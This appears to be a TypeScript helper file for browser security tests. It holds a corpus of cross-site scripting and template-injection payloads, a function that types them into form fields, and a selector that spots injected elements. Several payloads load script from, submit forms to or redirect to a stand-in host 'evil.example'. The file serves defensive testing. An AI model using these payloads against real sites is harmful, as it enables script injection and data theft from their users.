/** What somebody may type who means harm, and how a page is seen to have taken it for text. */
import type { Window } from '../support/browser.js'

export const CORPUS = [
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `"><svg onload=alert(1)>`,
  `'><script src=//evil.example/x.js></script>`,
  `</textarea><script>alert(1)</script>`,
  `</title><script>alert(1)</script>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<body onload=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<a href="javascript:alert(1)">results</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<button hx-get="/portal" hx-trigger="load" hx-on:load="alert(1)">x</button>`,
  `<form action="//evil.example"><input name=_csrf></form>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<div hx-swap-oob="innerHTML:#flash">gone</div>`,
  `<%= 7 * 7 %> {{7*7}} \${7*7}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `\u202e<script>alert(1)</script>\u0000\ufeff`,
]

/** Something that says which field it was, with as many attacks as there is room for; the whole corpus over all fields. */
export function typedInto<Field extends string>(fields: Readonly<Record<Field, number>>): Record<Field, string> {
  return Object.fromEntries(
    Object.entries<number>(fields).map(([field, most], at) => {
      const attacks = [`"><svg onload=alert(1)>`, ...CORPUS.slice(at % CORPUS.length), ...CORPUS]
      const text = attacks.reduce((sum, each) => (sum.length + each.length > most ? sum : sum + each), `${field}~`)
      return [field, text.slice(0, most)]
    }),
  ) as Record<Field, string>
}

/** What no page of ours has: a script that is not ours, a frame, a base, a style, a handler, a foreign address. */
export const STRANGE = `[...document.querySelectorAll(
  'script:not([src^="/assets/"]), iframe, base, meta[http-equiv], style, math, main svg:not(.icon):not(.swatch), object, embed, [srcdoc], ' +
  '[href^="javascript:" i], form[action*="evil"], [src*="evil"], [onload], [onerror], [ontoggle], [hx-on\\\\:load], img[src="x"]'
)].map((each) => each.outerHTML.slice(0, 200))`

/** HTML and innerText lay out white space in their own ways; controls are not shown. */
export function squeezed(text: string): string {
  return text.replaceAll('\u0000', '').replace(/\s+/g, '')
}

/** Without what is kept of no name: controls, and marks that turn the text's direction. */
export function bare(text: string): string {
  return text.replace(/[\p{Cc}\p{Cf}\s]/gu, '')
}

/** Everything that its main part says as text, what it has typed into its fields with it. */
export function saidOn({ page }: Window): Promise<string> {
  return page.evaluate<string>(
    `[document.querySelector('main').textContent, ...[...document.querySelectorAll('main input, main textarea')].map((each) => each.value)].join('\\n')`,
  )
}
